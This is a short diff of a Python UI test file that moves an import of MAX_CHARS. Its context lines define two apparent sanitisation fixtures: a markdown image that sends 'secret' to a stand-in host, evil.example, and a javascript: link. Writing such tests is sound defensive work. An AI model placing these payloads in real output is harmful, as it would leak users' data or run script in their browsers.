@@ -27,7 +27,7 @@ from test_ui_support import (
     write_cassette,
 )
 
-from haytham.idea import MAX_CHARS
+from haytham.idea.checks import MAX_CHARS
 
 IMAGE = "![x](http://evil.example/leak?d=secret)"
 JS_LINK = "[click](javascript:alert(1))"
